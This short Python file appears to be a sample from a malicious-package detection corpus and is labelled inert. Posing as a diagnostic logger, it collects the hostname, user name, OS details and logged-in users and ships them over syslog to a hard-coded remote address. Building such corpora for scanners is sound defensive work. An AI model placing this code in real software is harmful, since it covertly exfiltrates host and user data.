# pkgguard corpus 449 (system-information), modelled on [checkmarx-2024]; inert, never run.
import getpass
import logging
import logging.handlers
import platform

import psutil

log = logging.getLogger("pkg.diag")
log.addHandler(logging.handlers.SysLogHandler(address=("100.64.0.149", 514)))
log.warning(
    "host=%s user=%s os=%s users=%s",
    platform.node(),
    getpass.getuser(),
    platform.platform(),
    [u.name for u in psutil.users()],
)
